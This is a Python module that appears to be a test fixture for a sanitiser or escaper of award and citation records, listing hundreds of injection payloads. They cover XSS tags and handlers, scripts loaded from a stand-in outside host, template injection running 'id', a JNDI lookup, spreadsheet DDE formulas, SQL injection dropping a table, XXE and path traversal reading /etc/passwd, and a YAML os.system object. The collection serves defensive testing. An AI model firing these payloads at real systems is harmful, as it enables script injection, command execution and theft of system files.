"""The payloads: texts that somewhere run, load, end what they stand in, or become something else."""

_TAGS = r"""
<script>hit()</script>
<script>hit()
<SCRIPT>hit()</SCRIPT>
<ScRiPt >hit()</ScRiPt >
<script/x>hit()</script>
<script type=module>hit()</script>
<script type="text/javascript">hit()</script>
<script src="data:text/javascript,hit()"></script>
<script src=//ngoai.example/x.js></script>
<script async src="https://ngoai.example/x.js"></script>
<script>/*</script><script>*/hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
</script><script>hit()</script>
</SCRIPT><SCRIPT>hit()</SCRIPT>
</script foo><script>hit()</script foo>
<!--<script>--><script>hit()</script>
--><script>hit()</script>
--!><script>hit()</script>
<!--><script>hit()</script>-->
<![CDATA[<script>hit()</script>]]>
]]><script>hit()</script>
]]]]><![CDATA[><script>hit()</script>
?><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</style><script>hit()</script>
</noscript><script>hit()</script>
</template><script>hit()</script>
</pre><script>hit()</script>
</option></select><script>hit()</script>
</head><body onload=hit()>
</body></html><script>hit()</script>
</td></tr></table><script>hit()</script>
</iframe><script>hit()</script>
</xmp><script>hit()</script>
</svg><script>hit()</script>
</math><script>hit()</script>
<noscript><p title="</noscript><script>hit()</script>">
<template><script>hit()</script></template>
<plaintext>
<textarea>
<title>
<style>
<xmp>
<!--
<b>đậm</b>
<h1>tiêu đề</h1>
<base href="https://ngoai.example/">
<meta http-equiv="refresh" content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;https://ngoai.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://ngoai.example/x.css>
<link rel=import href="data:text/html,<script>hit()</script>">
<link rel=preload as=script href=//ngoai.example/x.js>
<style>@import "https://ngoai.example/x.css";</style>
<style>*{background:url(https://ngoai.example/x)}</style>
<form action="javascript:hit()"><input type=submit id=x></form>
<form id=x></form><button form=x formaction="javascript:hit()">
<input type=image src=https://ngoai.example/x onerror=hit()>
<isindex type=image src=1 onerror=hit()>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>
<frameset onload=hit()>
<object data="javascript:hit()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:hit()">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>">
<applet code="javascript:hit()">
<portal src="https://ngoai.example/">
<dialog open onclose=hit()>
<a href="javascript:hit()">bấm</a>
<a href="https://ngoai.example/" ping="https://ngoai.example/p">bấm</a>
<a name=bv></a><a id=bv-search-results></a>
<img name=getElementById><img name=currentScript>
<form name=body><input name=attributes></form>
"""

_HANDLERS = r"""
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror=hit`1`>
<img/src=x/onerror=hit()>
<img src=x:x onerror=hit()//
<IMG SRC=x ONERROR=hit()>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=hit()>
<img src onerror=&#104;&#105;&#116;()>
<img src=x onerror=eval(atob('aGl0KCk='))>
<img srcset="x 1x" onerror=hit()>
<image src=x onerror=hit()>
<picture><source srcset=x><img src=x onerror=hit()></picture>
<body onload=hit()>
<body onpageshow=hit()>
<body onhashchange=hit()>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href="data:text/javascript,hit()"/></svg>
<svg><script>&#104;it()</script></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=onload to=hit()>
<svg><a xlink:href="javascript:hit()"><text y=9>bấm</text></a></svg>
<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>bấm</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x"></svg>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg><title><img src=x onerror=hit()></title></svg>
<svg><desc><script>hit()</script></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><img src=x onerror=hit()>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>
<math href="javascript:hit()">bấm</math>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<video poster=javascript:hit()></video>
<audio src=x onerror=hit()></audio>
<audio autoplay onloadstart=hit() src=x></audio>
<track src=x onerror=hit()>
<details open ontoggle=hit()><summary>x</summary></details>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<button autofocus onfocus=hit()>
<a autofocus tabindex=0 onfocus=hit()>x</a>
<div tabindex=0 autofocus onfocusin=hit()>x</div>
<div contenteditable autofocus onfocus=hit()>x</div>
<marquee onstart=hit()>x</marquee>
<marquee width=1 loop=1 onfinish=hit()>x</marquee>
<div onpointerover=hit() style="position:fixed;inset:0">x</div>
<div onmouseover=hit()>x</div>
<div onclick=hit()>x</div>
<div style="animation:x 1s" onanimationstart=hit()>x</div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=hit()></p>
<p style="transition:color 1s" ontransitionend=hit()>x</p>
<div oncontentvisibilityautostatechange=hit() style="content-visibility:auto">x</div>
<div onbeforematch=hit() hidden=until-found>x</div>
<x onclick=hit()>x</x>
<xss id=x tabindex=1 onfocus=hit()></xss>
<bv-x oncopy=hit() oncut=hit() onpaste=hit()>x</bv-x>
<iframe onload=hit()></iframe>
<iframe src=about:blank onload=hit()></iframe>
<object data=x onerror=hit()></object>
<embed src=x onload=hit()>
<link rel=stylesheet href=x onerror=hit()>
<style onload=hit()></style>
<script src=x onerror=hit()></script>
"""

_ATTRIBUTES = r"""
"><script>hit()</script>
'><script>hit()</script>
"'><script>hit()</script>
"/><svg onload=hit()>
" onmouseover="hit()
' onmouseover='hit()
" onmouseover=hit() x="
" autofocus onfocus=hit() x="
' autofocus onfocus=hit() x='
" onload="hit()" x="
" onerror=hit() src=x x="
" style="animation:x" onanimationstart="hit()
" style="background:url(https://ngoai.example/x)
" accesskey=x onclick=hit() x="
" formaction="javascript:hit()
" href="javascript:hit()
" srcdoc="<script>hit()</script>
" data-bv-x="x
` onmouseover=hit() `
``onmouseover=hit()
&quot; onmouseover=&quot;hit()
&#34;><script>hit()</script>
&#x22; onfocus=hit() autofocus
\" onmouseover=hit() \"
\x22onmouseover=hit()\x22
" hidden="
"="><img src=x onerror=hit()>
=">
/>
>
<
<a
</
<!
<?
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&#x3c;img src=x onerror=hit()&#x3e;
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
%3Cscript%3Ehit()%3C/script%3E
\u003cscript\u003ehit()\u003c/script\u003e
\x3cscript\x3ehit()\x3c/script\x3e
+ADw-script+AD4-hit()+ADw-/script+AD4-
"""

_ADDRESSES = r"""
javascript:hit()
JaVaScRiPt:hit()
 javascript:hit()
javascript://%0ahit()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+hit()//'>
javascript&colon;hit()
javascript&#58;hit()
java&#9;script:hit()
java&NewLine;script:hit()
&#106;avascript:hit()
javascript:void(hit())
javascript:"<script>hit()</script>"
vbscript:hit()
data:text/html,<script>hit()</script>
data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==
data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=
blob:https://ngoai.example/x
file:///etc/passwd
view-source:javascript:hit()
//ngoai.example/x
\\ngoai.example\x
/\ngoai.example/x
https:ngoai.example
https://mau.example@ngoai.example/
https://ngoai.example/"onmouseover="hit()
https://ngoai.example/'onmouseover='hit()
../../../../etc/passwd
..\..\..\windows\win.ini
....//....//etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
C:\Windows\System32\drivers\etc\hosts
\\?\C:\con
con
nul.txt
mailto:x@mau.example?bcc=y@ngoai.example
tel:+1
#"><img src=x onerror=hit()>
?q=<script>hit()</script>
"""

_TEMPLATES = r"""
{{ 7777 * 3 }}
{{7777*3}}
{% raw %}{{ 7777 * 3 }}
{% endblock %}{{ 7777 * 3 }}
{% include "/etc/passwd" %}
{% import os %}
{# ghi chú
{{ archive.about }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.items() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ self._TemplateReference__context }}
{{constructor.constructor('hit()')()}}
{{$on.constructor('hit()')()}}
{{_c.constructor('hit()')()}}
[[7777*3]]
[[${7777*3}]]
${7777*3}
#{7777*3}
*{7777*3}
@{7777*3}
@(7777*3)
<%= 7777*3 %>
<?php echo 7777*3; ?>
<?= 7777*3 ?>
{{!-- hit() --}}
{{{7777*3}}}
${jndi:ldap://ngoai.example/x}
$(id)
`id`
; id #
| id
{0.__class__}
{title}
{value!r}
%(title)s
%s%n
$title
\1\g<0>
<div v-html="'<img src=x onerror=hit()>'"></div>
<div ng-app ng-csp>{{$eval.constructor('hit()')()}}</div>
<div x-data x-init="hit()"></div>
<button hx-get=https://ngoai.example/ hx-trigger=load>
<!--#exec cmd="id"-->
<esi:include src="https://ngoai.example/"/>
⟦title⟧
⟦content⟧⟦head⟧
⟦say-search⟧
⟦khong-co⟧
⟦address⟧khung/vinh-danh/
"""

_FORMS = r"""
=1+1
=HYPERLINK("https://ngoai.example/","bấm")
=cmd|' /C calc'!A0
=WEBSERVICE("https://ngoai.example/")
=IMPORTXML("https://ngoai.example/","//a")
+1+1
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
"=1+1"
;=1+1;
,=1+1,
x",=1+1,"
x";=1+1;"
'=1+1
%0A=1+1
DDE("cmd";"/C calc";"x")
a_x000D__x000A_=1
_x003C_script_x003E_hit()
TY  - JOUR
ER  - 
UR  - javascript:hit()
},\n@misc{x, title = {y}
}} } @misc{x,
@string{x = "y"}
@comment{x}
@preamble{"\immediate\write18{id}"}
\input{/etc/passwd}
\write18{id}
$$\href{javascript:hit()}{x}$$
%}{
|url=https://ngoai.example/ |title=x}}
{{xóa}}
[[Tập tin:x.svg|https://ngoai.example/]]
[https://ngoai.example/ x]
<ref>x</ref><nowiki>
","url":"https://ngoai.example/","x":"
"}]}</script><script>hit()</script>
\"}</script><script>hit()</script>
\u003c/script>\u003cscript>hit()
{"@context":"https://ngoai.example/"}
{"__proto__":{"x":1}}
__proto__
constructor
toString
<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>
<!ENTITY % x SYSTEM "https://ngoai.example/x.dtd"> %x;
&x;
&xxe; &lol9; &nbsp;
<?xml-stylesheet href="https://ngoai.example/x.xsl"?>
<?xml version="1.0"?>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">hit()</html:script>
</summary></entry><entry><title>x</title>
</title><link href="https://ngoai.example/"/>
</loc></url><url><loc>https://ngoai.example/
Contact: mailto:x@ngoai.example
#panic(1)
#import "@preview/x:1.0.0"
#read("/etc/passwd")
#link("javascript:hit()")[x]
#eval("panic(1)")
$ x #panic(1) $ *a* _b_ @x <y> `r` \ //
] } ) /* " '
' OR 1=1 --
'; DROP TABLE award; --
"; ATTACH DATABASE 'x.db' AS x; --
![x](javascript:hit())
[x](javascript:hit())
<https://ngoai.example/>
::: x
--- !!python/object/apply:os.system ["id"]
*x &x !!x <<: *x
Nguyễn Văn <script>hit()</script> Mẫu
Đặng Thị "Mẫu" onmouseover=hit()
Ủy ban nhân dân </title><svg/onload=hit()>
Huân chương 'Lao động' autofocus onfocus=hit()
ỶỸỴ&ỳ;ở<ờ>ợ"ỡ'ớ`ơ
"""

_LINES = [
    "x\nER  - \nTY  - JOUR\nTI  - y",
    "x\r\nER  - \r\nTY  - JOUR",
    "x\n@misc{y,\n  title = {z}\n}",
    "x}\n}\n@misc{y, title={z",
    "x\nContact: mailto:x@ngoai.example\nPolicy: https://ngoai.example/",
    "kho@mau.example\nContact: https://ngoai.example/",
    "x\n=1+1",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    'x"\n"=1+1',
    "x\n\n<script>hit()</script>",
    "jav\tascript:hit()",
    "java\nscript:hit()",
    "\tjavascript:hit()",
    "<img\nsrc=x\nonerror=hit()>",
    "<img\tsrc=x\tonerror=hit()>",
    "x\n---\n- y",
    "x\n::error file=y::z",
    "x\n\tURL:javascript:hit()",
    "Sitemap: x\nSitemap: https://ngoai.example/",
    "x\n| y=z\n}}",
]
"""With ends of lines and tabs, which quoted texts may hold."""

UNSEEN = [
    "<scr\0ipt>hit()</scr\0ipt>",
    "\0javascript:hit()",
    "java\x01script:hit()",
    "\x0bjavascript:hit()",
    "\x0c<script>hit()</script>",
    "\x1bx",
    "x\x7f",
    "x\x85y",
    "javascript\u200b:hit()",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e)(tih:tpircsavaj",
    "\u2066<script>hit()</script>\u2069",
    "x\u2028hit()//",
    "x\u2029hit()//",
    "x\u00ady",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\uff1d1+1",
    "j\u0430vascript:hit()",
    "\ufe64script\ufe65x\ufe0f",
    "\ufffe",
    "\U000e0041x",
    "cafe\u0301",
]
"""Signs that readers cannot see for what they are: none of these may be read at all."""

GROUPS = {
    name: [line for line in text.split("\n") if line]
    for name, text in {
        "tags": _TAGS,
        "handlers": _HANDLERS,
        "attributes": _ATTRIBUTES,
        "addresses": _ADDRESSES,
        "templates": _TEMPLATES,
        "forms": _FORMS,
    }.items()
} | {"lines": _LINES}

PAYLOADS = [payload for group in GROUPS.values() for payload in group]
"""Every payload that records may hold: more than three hundred."""
